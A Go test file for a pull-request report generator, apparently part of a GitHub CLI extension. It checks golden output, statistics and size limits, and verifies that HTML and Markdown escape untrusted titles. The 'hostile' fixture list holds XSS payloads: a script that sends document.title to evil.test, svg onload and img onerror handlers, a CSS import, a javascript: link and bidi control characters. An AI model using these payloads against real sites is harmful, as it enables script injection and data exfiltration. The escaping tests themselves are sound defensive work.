package report

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mergexo/gh-mergexo/cmd/status"
	"github.com/mergexo/gh-mergexo/internal/terminal"
	"github.com/mergexo/gh-mergexo/internal/work"
	"github.com/mergexo/gh-mergexo/store"
)

var update = flag.Bool("update", false, "write the golden files")

var (
	now  = time.Date(2026, 11, 23, 9, 30, 0, 0, time.UTC)
	from = time.Date(2026, 10, 25, 0, 0, 0, 0, time.UTC)
	repo = work.RepoName{Host: "github.com", Owner: "octo", Name: "app"}
)

// hostile are titles that would run, load, hide, reorder or stretch.
var hostile = []string{
	`<script>fetch("http://evil.test/"+document.title);throw new Error("ran")</script>`,
	`</title><svg onload=alert(1)><image href="http://evil.test/x.png"></svg>`,
	`"><img src=http://evil.test/y.png onerror="console.error('ran')">`,
	`{{.Style}} </style><style>@import url(http://evil.test/z.css)</style> ${7*7} <!-- -->`,
	"abc \u202egpj.exe\u202c \u2066isolated\u2069 עברית العربية שלום",
	strings.Repeat("Pneumonoultramicroscopicsilicovolcanoconiosis", 12),
	"👩‍💻🏳️‍🌈 𝕬 é̴̡̢ 漢字かな " + strings.Repeat("\u0301", 40),
	"null \x00 bell \a escape \x1b[31m line\u2028sep \u2029 [link](javascript:alert(1)) @octo/team #1 | `code` ![](http://evil.test/a.png)",
}

// pull is a pull request that ended this many days ago; negative: it is open.
func pull(n int, title string, state work.PullState, days, human int) store.PullFacts {
	p := store.PullFacts{
		ID: int64(n), RepoID: 1, Repo: repo, ItemID: int64(n), Issue: n, Flow: work.FlowBugfix, Number: n + 100, Title: title,
		URL: fmt.Sprintf("https://github.com/octo/app/pull/%d", n+100), State: state, Shown: true,
	}
	p.Opened = now.Add(-time.Duration(days)*24*time.Hour - 5*time.Hour)
	if state == work.PullOpen {
		p.Opened = now.Add(-time.Duration(days) * 24 * time.Hour)
		return p
	}
	p.End = work.PullEnd{PullID: p.ID, At: now.Add(-time.Duration(days)*24*time.Hour - time.Hour), Commits: 3, Human: human}
	return p
}

// sample are facts for every part of a report.
func sample(titles []string) Facts {
	title := func(i int) string { return titles[i%len(titles)] }
	f := Facts{From: from, Now: now, Called: work.RepoName.FullName}
	for n := range 14 {
		human := []int{0, 0, 1, -1, 0}[n%5]
		f.Pulls = append(f.Pulls, pull(n+1, title(n), work.PullMerged, n*2, human))
	}
	f.Pulls = append(f.Pulls, pull(20, title(1), work.PullClosed, 3, 0), pull(21, title(2), work.PullOpen, 2, 0), pull(22, title(3), work.PullOpen, 12, 0))
	gone := pull(23, title(4), work.PullOpen, 1, 0)
	gone.Shown = false
	f.Pulls = append(f.Pulls, gone)
	for i, p := range f.Pulls {
		f.ByItem = append(f.ByItem, store.CostLine{TotalKey: store.TotalKey{ItemID: p.ItemID}, Runs: i%4 + 2, Turns: i%4 + 1, UsageSum: work.UsageSum{Usage: work.Usage{CostUSD: 0.35 * float64(i%5+1)}, UnknownCost: i % 9 / 8}})
		f.Marks = append(f.Marks, marksOf(p, i)...)
	}
	day := func(n int) string { return now.AddDate(0, 0, -n).Format(time.DateOnly) }
	for n := range 28 {
		f.Costs = append(f.Costs, store.CostLine{TotalKey: store.TotalKey{Day: day(n)}, Runs: n%3 + 1, Turns: n%3 + 1, UsageSum: work.UsageSum{Usage: work.Usage{InputTokens: 120_000, OutputTokens: 4_000, CostUSD: 0.41}}})
		f.Answers = append(f.Answers, store.TimeLine{TotalKey: store.TotalKey{Day: day(n)}, Most: 10 * time.Minute, Count: 14, Sum: 105 * time.Minute},
			store.TimeLine{TotalKey: store.TotalKey{Day: day(n)}, Most: 20 * time.Minute, Count: n % 3, Sum: time.Hour})
	}
	f.Costs[3].UnknownCost = 2
	for i, kind := range []string{"tried_again", "tests_fail", "agent_credentials", "item_budget"} {
		f.Failures = append(f.Failures, store.CountLine{TotalKey: store.TotalKey{Day: day(i), Kind: kind}, Count: 7 - 2*i}, store.CountLine{TotalKey: store.TotalKey{Day: day(i + 5), Kind: kind}, Count: 1})
	}
	for i, who := range []string{"quinn", "", "sam"} {
		f.Verdicts = append(f.Verdicts, store.VerdictLine{TotalKey: store.TotalKey{Reviewer: who, Outcome: "approve"}, Count: 9 - 3*i},
			store.VerdictLine{TotalKey: store.TotalKey{Reviewer: who, Outcome: "request_changes"}, Count: 2 + i, Findings: 5})
	}
	since := now.Add(-26 * time.Hour)
	for i, state := range []string{"blocked", "awaiting_feedback", "running"} {
		f.Items = append(f.Items, status.Item{
			Repo: "octo/app", Number: 21 + i, Title: title(i), URL: fmt.Sprintf("https://github.com/octo/app/issues/%d", 21+i), Flow: "bugfix", State: state, Since: terminal.Stamp(since),
			WaitingFor: "the agent asks: " + title(i+1), ReasonCode: work.WhyQuestion, NextStep: "answer in a comment on the issue", Stopped: i == 0,
			PullRequest: &status.PullRequest{Number: 121 + i, URL: fmt.Sprintf("https://github.com/octo/app/pull/%d", 121+i)},
		})
	}
	return f
}

func marksOf(p store.PullFacts, i int) []store.Mark {
	at := func(m int) time.Time { return p.Opened.Add(time.Duration(m) * time.Minute) }
	return []store.Mark{
		{ItemID: p.ItemID, What: store.MarkTurn, Kind: "bugfix_start", Says: "done", At: at(-9), End: at(0)},
		{ItemID: p.ItemID, What: store.MarkVerdict, Who: "quinn", Says: "request_changes", At: at(20)},
		{ItemID: p.ItemID, What: store.MarkTurn, Kind: "fix", Who: "quinn", Says: []string{"done", "failed"}[i%2], At: at(22), End: at(45)},
		{ItemID: p.ItemID, What: store.MarkPerson, Kind: "issue", Who: "ann", At: at(90)},
		{ItemID: p.ItemID, What: store.MarkTurn, Kind: "implementation_feedback", Says: "done", At: at(95), End: at(140)},
		{ItemID: p.ItemID, What: store.MarkVerdict, Who: "quinn", Says: "approve", At: at(160)},
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(want) != got {
		t.Errorf("%s differs; go test ./cmd/report -update writes it. Got:\n%s", name, got)
	}
}

var friendly = []string{"Crash on start", "Add a cache", "Say why it is so", "Typo"}

func TestReportsAreWhatTheyWere(t *testing.T) {
	r := Make(sample(friendly))
	golden(t, "report.md", r.Markdown())
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "report.json", string(b)+"\n")
}

func TestNumbers(t *testing.T) {
	n := Make(sample(friendly)).Numbers
	if n.Outcomes[work.Accepted] != 14 || n.Outcomes[work.Rejected] != 1 || n.Outcomes[work.Pending] != 1 || n.Outcomes[work.Ignored] != 1 || n.Outcomes[work.Unknown] != 1 {
		t.Errorf("outcomes %v", n.Outcomes)
	}
	if n.ZeroTouch != 8 || n.ZeroKnown != 11 { // of 14: eight without and three with a person's commit, three unknown
		t.Errorf("zero touch %d of %d", n.ZeroTouch, n.ZeroKnown)
	}
	if n.stopped != 1 || n.waiting != 2 || n.Unknown != 2 || n.failures != 20 {
		t.Errorf("%+v", n)
	}
}

// No format shows sections without data.
func TestNothing(t *testing.T) {
	r := Make(Facts{From: from, Now: now, Called: work.RepoName.FullName})
	page, err := r.HTML()
	if err != nil || !strings.Contains(string(page), "Nothing happened in this time") || strings.Contains(string(page), "<svg") {
		t.Errorf("%v, %s", err, page)
	}
	if got := r.Markdown(); !strings.HasSuffix(got, "Nothing happened in this time, and nothing is open.\n") {
		t.Error(got)
	}
	b, err := json.Marshal(r)
	if err != nil || strings.Contains(string(b), `s":null`) && !strings.Contains(string(b), `Seconds`) {
		t.Errorf("%v, %s", err, b)
	}
	for _, list := range []string{"pullRequests", "items", "failures", "verdicts"} {
		if !strings.Contains(string(b), `"`+list+`":[]`) {
			t.Errorf("%s in %s", list, b)
		}
	}
	if page, err := Make(Facts{Now: now, Called: work.RepoName.FullName, Items: sample(friendly).Items}).HTML(); err != nil || strings.Contains(string(page), "<figure") {
		t.Errorf("%v: a picture of nothing", err)
	}
}

// People's text is only text, in every format.
func TestHostileTitlesAreText(t *testing.T) {
	r := Make(sample(hostile))
	page, err := r.HTML()
	if err != nil {
		t.Fatal(err)
	}
	for _, not := range []string{"<script", "<img", "onload=alert(1)>", "<image", "javascript:alert(1)\"", "href=\"http://evil"} {
		if strings.Contains(strings.ToLower(string(page)), not) {
			t.Errorf("the page has %q", not)
		}
	}
	if strings.ContainsAny(string(page), "\u202e\u2066\x1b\x00\a") || !strings.Contains(string(page), "👩‍💻") {
		t.Error("the page has what hides and reorders, or lacks what joins")
	}
	md := r.Markdown()
	for _, not := range []string{"<script", "<img", "<svg", "](javascript", "![", "@octo", "\u202e"} {
		if strings.Contains(md, not) {
			t.Errorf("Markdown has %q", not)
		}
	}
	if got, want := plain("@octo, a#1"), "&#64;\u200bocto, a&#35;\u200b1"; got != want {
		t.Errorf("plain gives %q, want %q: a number for an @ still mentions", got, want)
	}
	if rows := strings.Count(md, "\n| ["); rows != 14 {
		t.Errorf("%d rows of merged pull requests", rows)
	}
}

// A report over a year of much work is made quickly, and is small.
func TestLargeReports(t *testing.T) {
	f := sample(hostile)
	f.From = time.Time{}
	f.Pulls, f.Marks, f.ByItem = nil, nil, nil
	for n := range 2000 {
		p := pull(n+1, hostile[n%len(hostile)], work.PullMerged, n/6, n%3)
		f.Pulls = append(f.Pulls, p)
		for i := range 5 {
			f.Marks = append(f.Marks, marksOf(p, i)...)
		}
	}
	began := time.Now()
	page, err := Make(f).HTML()
	if err != nil || len(page) > 1<<20 {
		t.Errorf("%d bytes, %v", len(page), err)
	}
	if took := time.Since(began); took > time.Minute {
		t.Errorf("it took %s", took)
	}
	t.Logf("%d bytes in %s", len(page), time.Since(began))
}

func TestWithin(t *testing.T) {
	var h Histogram
	if _, ok := h.Within(0.5); ok {
		t.Error("of nothing")
	}
	h.add([]store.TimeLine{{Most: 5 * time.Minute, Count: 2}, {Most: 10 * time.Minute, Count: 2}, {Count: 1}})
	for part, want := range map[float64]time.Duration{0.2: 210 * time.Second, 0.4: 5 * time.Minute, 0.6: 7*time.Minute + 30*time.Second, 0.9: 24 * time.Hour} {
		if got, _ := h.Within(part); got != want {
			t.Errorf("%g: %s, want %s", part, got, want)
		}
	}
}

func TestTook(t *testing.T) {
	for d, want := range map[time.Duration]string{
		0: "0 s", 59 * time.Second: "59 s", 90 * time.Second: "1.5 min", 2 * time.Hour: "2 h", 9*time.Hour + 59*time.Minute: "10 h", 30 * time.Hour: "1.2 d", 240 * time.Hour: "10 d",
	} {
		if got := Took(d); got != want {
			t.Errorf("%s: %s, want %s", d, got, want)
		}
	}
}

func TestPeriods(t *testing.T) {
	for days, want := range map[int]struct {
		step  Step
		begin string
		n     int
	}{7: {Daily, "2026-11-16", 8}, 90: {Weekly, "2026-08-24", 14}, 400: {Monthly, "2025-10-01", 14}} {
		step, all := periods(Facts{Now: now, From: now.AddDate(0, 0, -days).Truncate(24 * time.Hour)}, nil)
		if step != want.step || len(all) != want.n || all[0].Begin.Format(time.DateOnly) != want.begin {
			t.Errorf("%d days: %s, %d from %s", days, step, len(all), all[0].Begin)
		}
	}
}

// If the machine's clock is behind, --since may name a day that has not begun: there is nothing to
// draw.
func TestFromADayThatHasNotBegun(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	r := Make(Facts{From: now.AddDate(1, 0, 0), Now: now, Called: work.RepoName.FullName})
	if page, err := r.HTML(); err != nil || len(page) == 0 || len(r.Periods) != 0 {
		t.Errorf("%d bytes, %d periods, %v", len(page), len(r.Periods), err)
	}
}

// A summary on GitHub is limited to a megabyte: a long list is cut, with a note.
func TestMarkdownIsBounded(t *testing.T) {
	now := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	items := make([]status.Item, 3*mostRows)
	for i := range items {
		items[i] = status.Item{Repo: "octo/app", Number: i, Title: "x", State: "ready", Since: terminal.Stamp(now)}
	}
	text := Make(Facts{Now: now, Items: items, Called: work.RepoName.FullName}).Markdown()
	if n := strings.Count(text, "octo/app#"); n != mostRows || !strings.Contains(text, "\n400 more.\n") {
		t.Errorf("%d of %d items: %.300s", n, len(items), text)
	}
}

// A quantile of few answers says nothing: there is none below ten, and from ten on there is.
func TestQuantilesAreOfTenOrMore(t *testing.T) {
	for n := range 12 {
		f := sample(friendly)
		f.Answers = []store.TimeLine{{TotalKey: f.Answers[0].TotalKey, Most: time.Minute, Count: n}}
		r := Make(f)
		if got := r.Numbers.AnswerMedian != nil && r.Numbers.AnswerMost != nil; got != (n >= 10) {
			t.Errorf("%d answers: a median is there: %v", n, got)
		}
		for _, p := range r.Periods {
			if got := p.AnswerMedian != nil; got != (p.Answers >= 10) {
				t.Errorf("%d answers in a period: a median is there: %v", p.Answers, got)
			}
		}
	}
}

// Of a life with more marks than are drawn, the beginning and the end are: also the verdict that let
// it merge, whose stamp may be later than that of the merge.
func TestTheLastVerdictOfALifeIsDrawn(t *testing.T) {
	noon := time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
	p := Pull{Opened: noon, Ended: terminal.Stamp(noon.Add(time.Hour))}
	for i := range 3 * mostMarks {
		p.marks = append(p.marks, store.Mark{What: store.MarkPerson, At: noon.Add(time.Duration(i) * time.Second)})
	}
	p.marks = append(p.marks, store.Mark{What: store.MarkVerdict, Says: "approve", At: p.Ended.Add(time.Second)})
	l := lifeOf(p, "x", noon.Add(2*time.Hour))
	if last := l.Shapes[len(l.Shapes)-1]; last.Class != "good" || len(l.Shapes) != mostMarks || l.Cut != 2*mostMarks+1 {
		t.Errorf("%d marks are drawn and %d are not; the last is %+v", len(l.Shapes), l.Cut, last)
	}
}
